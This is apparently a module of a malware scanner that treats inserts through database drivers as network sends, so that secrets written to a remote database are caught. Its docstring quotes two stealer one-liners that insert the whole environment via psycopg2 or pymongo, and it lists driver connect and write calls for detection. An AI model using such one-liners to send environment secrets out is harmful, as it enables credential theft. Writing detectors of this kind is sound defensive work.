"""Database drivers as senders: what is inserted into a database on another host is sent
(issue 16; ADR 0195).

A stealer needs no web address: ``psycopg2.connect(host=h).cursor().execute('INSERT ...',
(env,))`` or ``pymongo.MongoClient(uri).db.c.insert_one(dict(os.environ))`` puts the secret
in a database the author reads. A driver was no sink, so the secret reached nothing.

The drivers' connections are named by the call that makes them (:data:`CONNECTS`, clients
as :data:`sinks.CLIENTS` are), and so is everything reached from one (a cursor, a database,
a collection: :func:`handle`); their writes (:data:`WRITES`) are network events
(:func:`sends`), made only when what they store carries secret data (:mod:`sinkevents`)
and judged by it (:mod:`chains`): a credential or the whole environment, at any moment; one
variable only from ``setup.py``. Making a connection sends nothing: the password an
application reads from the environment to log in is what every application does, and rows
of the application's own are no event at all. No word is added to the prefilter: a
function that reads a secret names its source.

What it does not do: read SQLAlchemy's engines (a dialect's code calls the driver's cursor
handed in, which no name resolves), or judge where the database is: a secret inserted into
the local machine's database on install or import is as odd as one sent away.
"""

from __future__ import annotations

# Calls that connect to a database server, by the name the call resolves to.
CONNECTS = (
    "psycopg2.connect", "psycopg.connect", "psycopg.Connection.connect", "pymysql.connect",
    "MySQLdb.connect", "mysql.connector.connect", "pymongo.MongoClient",
    "motor.motor_asyncio.AsyncIOMotorClient", "pymssql.connect", "pyodbc.connect",
    "cx_Oracle.connect", "oracledb.connect", "asyncpg.connect", "aiomysql.connect",
    "clickhouse_driver.Client", "cassandra.cluster.Cluster",
)  # fmt: skip
# What a connection, its cursor or a collection is told to store.
WRITES = frozenset({
    "execute", "executemany", "executescript", "copy_from", "copy_expert", "callproc",
    "insert_one", "insert_many", "replace_one", "update_one", "update_many", "bulk_write",
    "find_one_and_replace", "find_one_and_update", "insert",
})  # fmt: skip
_PREFIXES = tuple(f"{c}." for c in CONNECTS)


def handle(ref: str) -> bool:
    """Whether ``ref`` is a connection made by a driver, or something reached from one (a
    cursor, a database, a collection), named by the calls that made it: not a write."""
    if ref in CONNECTS:
        return True
    return ref.startswith(_PREFIXES) and ref.rpartition(".")[2] not in WRITES


def sends(ref: str) -> bool:
    """Whether ``ref`` is a write through a driver's connection (``cursor().execute``,
    ``insert_one``): what it is given goes to the database's host."""
    return ref.startswith(_PREFIXES) and ref.rpartition(".")[2] in WRITES
